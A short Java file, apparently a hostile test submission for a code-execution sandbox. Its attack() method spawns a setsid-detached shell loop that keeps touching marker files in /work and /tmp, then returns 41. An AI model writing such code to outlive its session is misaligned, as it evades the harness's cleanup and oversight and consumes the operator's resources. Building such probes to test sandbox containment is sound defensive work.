// class: logic
class Solution {
    static int attack() throws Exception {
        new ProcessBuilder("/bin/sh", "-c", "setsid sh -c 'while :; do touch /work/left /tmp/left; sleep 0.01; done' &").start().waitFor();
        return 41;
    }
}
